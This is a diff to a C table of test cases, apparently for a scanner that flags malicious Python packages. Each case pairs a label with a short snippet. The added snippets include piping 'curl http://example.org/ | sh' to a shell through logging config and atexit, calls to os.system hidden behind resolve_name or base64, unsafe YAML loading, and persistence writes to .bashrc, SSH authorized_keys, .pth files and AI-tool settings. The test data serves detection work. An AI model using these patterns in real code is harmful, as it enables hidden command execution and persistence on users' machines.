@@ -56,6 +56,10 @@ const struct source_row source_rows[] = {
     {P_INSTALL, NULL, "from setuptools import setup\nsetup(name='x')\n"},
     {P_INSTALL, "install-process", "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n"},
     {P_IMPORT, "import-network", "import requests\nrequests.get('http://example.org/')\n"},
+    {P_IMPORT, NULL,
+     "import requests\nassert __name__ == '__main__', 'x'\nrequests.get('http://example.org/')\n"},
+    {P_IMPORT, "import-network",
+     "import requests\nassert __name__ != '__main__', 'x'\nrequests.get('http://example.org/')\n"},
     {P_IMPORT, "import-network", "import requests\ndef f():\n    requests.get('http://example.org/')\ndef g():\n    f()\ng()\n"},
     {P_IMPORT, "import-network", "import requests\nclass A:\n    x = requests.get('http://example.org/')\n"},
     {P_IMPORT, "import-network", "import requests, threading\ndef f():\n    requests.get('http://example.org/')\nthreading.Thread(target=f).start()\n"},
@@ -416,7 +420,172 @@ const struct source_row source_rows[] = {
     {P_IMPORT, NULL, "import os\ndef f(d):\n    return os.path.exists(os.path.join(d, 'x.pth'))\n"},
     {P_IMPORT, NULL, "from pathlib import Path\ndef f(d):\n    return (Path(d) / 'x.pth').read_text()\n"},
     {P_IMPORT, NULL,
-     "import subprocess\ndef f(c):\n    return subprocess.run(c, creationflags=subprocess.CREATE_NO_WINDOW)\n"},
+     "from pathlib import Path\ndef f(d):\n    return (Path(d) / 'x.pth').read_text()\n"},
+    {P_IMPORT, NULL,
+     "import subprocess\ndef f(c):\n    return subprocess.run(c, "
+     "creationflags=subprocess.CREATE_NO_WINDOW)\n"},
+    /* other doors to the same functions */
+    {P_IMPORT, "hidden-name", "import pkgutil\npkgutil.resolve_name('os:system')('id')\n"},
+    {P_IMPORT, "import-process", "import pkgutil\npkgutil.resolve_name('os:system')('id')\n"},
+    {P_IMPORT, "hidden-name",
+     "from pydoc import locate\ndef f():\n    locate('subprocess.call')(['id'])\n"},
+    {P_IMPORT, "hidden-name",
+     "import base64, pydoc\ndef f():\n    "
+     "pydoc.locate(base64.b64decode('b3Muc3lzdGVt').decode())('id')\n"},
+    {P_IMPORT, NULL, "import pkgutil\nf = pkgutil.resolve_name('a.b:c')\nf()\n"},
+    {P_IMPORT, NULL, "from pydoc import locate\ndef f(name):\n    return locate(name)\n"},
+    {P_IMPORT, "hidden-name",
+     "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': "
+     "'os.system', 'command': 'id'}}})\n"},
+    {P_IMPORT, "hidden-command",
+     "import logging.config as c\nc.dictConfig({'version': 1, 'formatters': {'f': {'()': "
+     "'os.system',"
+     " 'command': 'curl http://example.org/ | sh'}}})\n"},
+    {P_IMPORT, NULL,
+     "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': "
+     "'a.b.Handler', 'level': 'INFO'},"
+     " 'c': {'class': 'logging.StreamHandler'}}})\n"},
+    {P_IMPORT, "remote-code",
+     "import requests, yaml\ndef f():\n    yaml.unsafe_load(requests.get(u).text)\n"},
+    {P_IMPORT, "remote-code",
+     "import requests, yaml\ndef f():\n    yaml.load(requests.get(u).text, "
+     "Loader=yaml.UnsafeLoader)\n"},
+    {P_IMPORT, "hidden-code",
+     "import yaml\ndef f():\n    yaml.unsafe_load('!!python/object/apply:os.system [id]')\n"},
+    {P_IMPORT, NULL,
+     "import requests, yaml\ndef f():\n    yaml.load(requests.get(u).text, "
+     "Loader=yaml.SafeLoader)\n"},
+    {P_IMPORT, "import-network", "import pip\npip.main(['install', 'x'])\n"},
+    {P_IMPORT, "import-network",
+     "from pip._internal.cli.main import main\nmain(['install', 'x'])\n"},
+    {P_IMPORT, "import-network",
+     "import runpy, sys\nsys.argv = ['pip', 'install', 'x']\nrunpy.run_module('pip', "
+     "run_name='__main__')\n"},
+    {P_IMPORT, NULL, "import runpy\nrunpy.run_module('a.b')\n"},
+    {P_IMPORT, "import-process", "import uuid\nuuid._get_command_stdout('id', '-u')\n"},
+    {P_IMPORT, NULL, "import uuid\nX = uuid.uuid4()\n"},
+    {P_IMPORT, "import-network", "import ssl\nssl.get_server_certificate(('example.org', 443))\n"},
+    {P_IMPORT, "import-network",
+     "from http.server import HTTPServer\nHTTPServer(('', 8000), H).serve_forever()\n"},
+    {P_IMPORT, NULL,
+     "from http.server import HTTPServer\ndef f():\n    HTTPServer(('', 8000), "
+     "H).serve_forever()\n"},
+    {P_IMPORT, "import-network",
+     "import xmlrpc.client\nxmlrpc.client.ServerProxy('http://example.org/').tell('x')\n"},
+    {P_IMPORT, NULL,
+     "import xmlrpc.client\nS = xmlrpc.client.ServerProxy('http://example.org/')\n"},
+    {P_IMPORT, "import-network", "import ftplib\nftplib.FTP('example.org')\n"},
+    {P_IMPORT, NULL, "import ftplib\nF = ftplib.FTP()\n"},
+    {P_IMPORT, "import-network", "import smtplib\nsmtplib.SMTP('example.org', 25)\n"},
+    {P_IMPORT, "import-network", "import telnetlib\ntelnetlib.Telnet('example.org')\n"},
+    {P_IMPORT, "import-network", "import webbrowser\nwebbrowser.open('http://example.org/')\n"},
+    {P_IMPORT, NULL, "import webbrowser\ndef f(u):\n    webbrowser.open(u)\n"},
+    {P_IMPORT, "import-process",
+     "import ctypes\nlib = ctypes.cdll.LoadLibrary(None)\nlib.system(b'id')\n"},
+    {P_IMPORT, "import-process", "import ctypes\nctypes.PyDLL(None).system(b'id')\n"},
+    {P_IMPORT, "import-process", "import cffi\nffi = cffi.FFI()\nffi.dlopen(None).system(b'id')\n"},
+    {P_IMPORT, NULL, "import ctypes\nctypes.cdll.LoadLibrary('libm.so.6').cos(1)\n"},
+    {P_IMPORT, "data-code",
+     "from importlib._bootstrap_external import SourceFileLoader as L\nL('a', "
+     "'a.dat').load_module()\n"},
+    {P_IMPORT, "import-network",
+     "import sys, requests\nclass F:\n    def find_spec(self, n, p, t=None):\n        "
+     "requests.get('http://example.org/')\n"
+     "sys.meta_path.insert(0, F())\n"},
+    {P_IMPORT, "import-network",
+     "import sys, requests\nclass L:\n    def exec_module(self, m):\n        "
+     "requests.get('http://example.org/')\n"
+     "class F:\n    def find_spec(self, n, p, t=None):\n        return spec(n, L())\nsys.meta_path "
+     "= [F()] + sys.meta_path\n"},
+    {P_IMPORT, NULL,
+     "import sys, requests\nclass F:\n    def find_spec(self, n, p, t=None):\n        return "
+     "None\n    def fetch(self):\n"
+     "        requests.get('http://example.org/')\nsys.meta_path.insert(0, F())\n"},
+    {P_IMPORT, "import-network",
+     "import threading, requests\nclass T(threading.Thread):\n    def run(self):\n        "
+     "requests.get('http://example.org/')\nT().start()\n"},
+    {P_IMPORT, NULL,
+     "import threading, requests\nclass T(threading.Thread):\n    def run(self):\n        "
+     "requests.get('http://example.org/')\nt = T()\n"},
+    {P_IMPORT, "import-network",
+     "import atexit, requests\n@atexit.register\ndef f():\n    "
+     "requests.get('http://example.org/')\n"},
+    {P_IMPORT, "hidden-command",
+     "import atexit, os\natexit.register(os.system, 'curl http://example.org/ | sh')\n"},
+    {P_IMPORT, "import-network",
+     "import weakref, requests\nclass A: pass\na = A()\nweakref.finalize(a, requests.get, "
+     "'http://example.org/')\n"},
+    {P_IMPORT, "import-network",
+     "import codecs, requests\ndef f(n):\n    "
+     "requests.get('http://example.org/')\ncodecs.register(f)\n"},
+    {P_IMPORT, NULL, "import codecs\ndef f(n):\n    return None\ncodecs.register(f)\n"},
+    {P_IMPORT, "import-network",
+     "import requests\ndef __getattr__(name):\n    return requests.get('http://example.org/')\n"},
+    {P_IMPORT, NULL,
+     "import importlib\ndef __getattr__(name):\n    return importlib.import_module('.' + name, "
+     "__name__)\n"},
+    {P_IMPORT, "import-network",
+     "import requests\nclass D:\n    def __set_name__(self, owner, name):\n        "
+     "requests.get('http://example.org/')\n"
+     "class A:\n    x = D()\n"},
+    {P_IMPORT, "import-network",
+     "import requests\nclass M(type):\n    def __new__(m, n, b, d):\n        "
+     "requests.get('http://example.org/')\n"
+     "        return type.__new__(m, n, b, d)\nclass A(metaclass=M):\n    pass\n"},
+    {P_IMPORT, "import-network",
+     "import requests\ndef deco(f):\n    requests.get('http://example.org/')\n    return "
+     "f\n@deco\ndef g():\n    pass\n"},
+    {P_IMPORT, "self-delete", "from pathlib import Path\nPath(__file__).unlink()\n"},
+    {P_IMPORT, NULL, "from pathlib import Path\n(Path(__file__).parent / 'x.tmp').unlink()\n"},
+    /* data that becomes source */
+    {P_IMPORT, "data-code", "import os\nos.replace('a/x.dat', 'a/x.py')\n"},
+    {P_IMPORT, "data-code", "from pathlib import Path\nPath('a/x.dat').rename('a/x.py')\n"},
+    {P_IMPORT, "data-code",
+     "from pathlib import Path\nPath('a/x.py').write_text(Path('a/x.dat').read_text())\n"},
+    {P_IMPORT, "data-code",
+     "import shutil\nwith open('a/x.dat') as i, open('a/x.py', 'w') as o:\n    "
+     "shutil.copyfileobj(i, o)\n"},
+    {P_IMPORT, "data-code",
+     "with open('a/x.py', 'w') as o:\n    o.writelines(open('a/x.dat').readlines())\n"},
+    {P_IMPORT, NULL, "import os\ndef f():\n    os.replace('a/x.dat', 'a/x.py')\n"},
+    {P_IMPORT, NULL, "import os\nos.replace('a/x.tmp.py', 'a/x.py')\n"},
+    /* places that others read */
+    {P_IMPORT, "persistence", "import os\ndef f():\n    os.system('echo x >> ~/.bashrc')\n"},
+    {P_IMPORT, NULL, "import os\ndef f():\n    os.system('cat ~/.bashrc')\n"},
+    {P_IMPORT, "persistence",
+     "from pathlib import Path\ndef f():\n    with (Path.home() / '.zshenv').open('a') as o:\n     "
+     "   o.write('x')\n"},
+    {P_IMPORT, "persistence",
+     "from pathlib import Path\ndef f():\n    (Path.home() / '.profile').write_text('x')\n"},
+    {P_IMPORT, NULL,
+     "from pathlib import Path\ndef f(d):\n    (Path(d) / 'run.profile').write_text('x')\n"},
+    {P_IMPORT, "login-key",
+     "import os\ndef f():\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as "
+     "o:\n        o.write('ssh-ed25519 x')\n"},
+    {P_IMPORT, NULL,
+     "import os\ndef f():\n    return open(os.path.expanduser('~/.ssh/authorized_keys')).read()\n"},
+    {P_IMPORT, "tool-settings",
+     "from pathlib import Path\n(Path.home() / '.config/pip/pip.conf').write_text('x')\n"},
+    {P_IMPORT, "tool-settings",
+     "import os\ndef f():\n    with open(os.path.expanduser('~/.claude/settings.json'), 'w') as "
+     "o:\n        o.write('{}')\nf()\n"},
+    {P_IMPORT, "tool-settings", "import shutil\nshutil.copy('x.json', '.vscode/tasks.json')\n"},
+    {P_INSTALL, "tool-settings",
+     "import os\ndef f():\n    open('.git/hooks/pre-commit', 'w').write('x')\n"},
+    {P_IMPORT, NULL,
+     "from pathlib import Path\ndef f():\n    (Path.home() / "
+     "'.config/pip/pip.conf').write_text('x')\n"},
+    {P_IMPORT, NULL,
+     "from pathlib import Path\nX = (Path.home() / '.config/pip/pip.conf').read_text()\n"},
+    {P_IMPORT, "persistence",
+     "import os\nwith open(os.path.join(d, 'x.pth'), 'w') as o:\n    o.write('import x')\n"},
+    {P_IMPORT, "persistence",
+     "import os, site\ndef f():\n    with open(os.path.join(site.getsitepackages()[0], 'x.pth'), "
+     "'w') as o:\n        o.write('import x')\n"},
+    {P_INSTALL, "start-file",
+     "import os\nwith open(os.path.join(d, 'x.pth'), 'w') as o:\n    o.write('import x')\n"},
+    {P_INSTALL, NULL,
+     "import os\nwith open(os.path.join(d, 'x.txt'), 'w') as o:\n    o.write('import x')\n"},
     /* the text itself */
     {P_IMPORT, "source-encoding", "# coding: unicode_escape\n"},
     {P_IMPORT, NULL, "# coding: latin-1\nx = '\xe9'\n"},
